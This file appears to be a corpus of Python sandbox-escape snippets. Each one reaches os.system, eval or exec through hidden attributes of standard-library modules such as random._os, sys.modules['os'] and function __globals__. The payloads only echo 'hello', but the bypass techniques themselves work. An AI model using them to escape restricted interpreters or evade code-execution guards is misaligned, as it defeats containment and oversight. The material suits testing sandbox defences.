import argparse
argparse._os.system("echo hello")
# ---
import random as r
tools = r
mod = tools._os
run = mod.system
run("echo hello")
# ---
import collections
collections._sys.modules["os"].system("echo hello")
# ---
import contextlib
contextlib.os.system("echo hello")
# ---
import csv
csv.re.enum.bltns.eval("print('hello')")
# ---
import dataclasses
dataclasses.sys.modules["os"].system("echo hello")
# ---
import datetime
datetime.sys.modules["os"].system("echo hello")
# ---
import random
random.__dict__["_os"].__dict__["system"]("echo hello")
# ---
import fractions
fractions.sys.modules["os"].system("echo hello")
# ---
from random import _os as o
o.system("echo hello")
# ---
import types, functools
functools.reduce.__self__.__import__ if 0 else 0
from functools import *
import functools as ft
ft.recursive_repr.__globals__["__builtins__"]["__import__"]("os").system("echo hello")
# ---
import random
getattr(random, "_o" + "s").system("echo hello")
# ---
import glob
glob.os.system("echo hello")
# ---
import inspect
inspect.os.system("echo hello")
# ---
import inspect
inspect.importlib.import_module("os").system("echo hello")
# ---
import json
json.codecs.builtins.exec("print('hello')")
# ---
import logging
logging.os.system("echo hello")
# ---
import pathlib
getattr(pathlib, "os", None) and pathlib.os.system("echo hello")
# ---
import platform
import uuid
uuid.os.system("echo hello")
# ---
import queue
queue.threading._sys.modules["os"].system("echo hello")
# ---
import random
random._os.system("echo hello")
# ---
import re
re.enum.sys.modules["os"].system("echo hello")
# ---
import secrets
secrets.random._os.system("echo hello") if hasattr(secrets, 'random') else __import__('os').system('echo hello')
# ---
import shutil
shutil.os.system("echo hello")
# ---
import statistics
statistics.sys.modules['os'].system("echo hello")
# ---
import string
string._re.enum.sys.modules["os"].system("echo hello")
# ---
import tempfile
tempfile._os.system("echo hello")
# ---
import threading
threading._os.system("echo hello")
# ---
from traceback import linecache
linecache.os.system("echo hello")
# ---
import typing
typing.sys.modules["posix"].system("echo hello")
# ---
import unittest.mock as m
m.builtins.eval("print('hello')")
# ---
import random
vars(random)["_os"].system("echo hello")
# ---
import weakref
weakref.sys.modules["os"].system("echo hello")
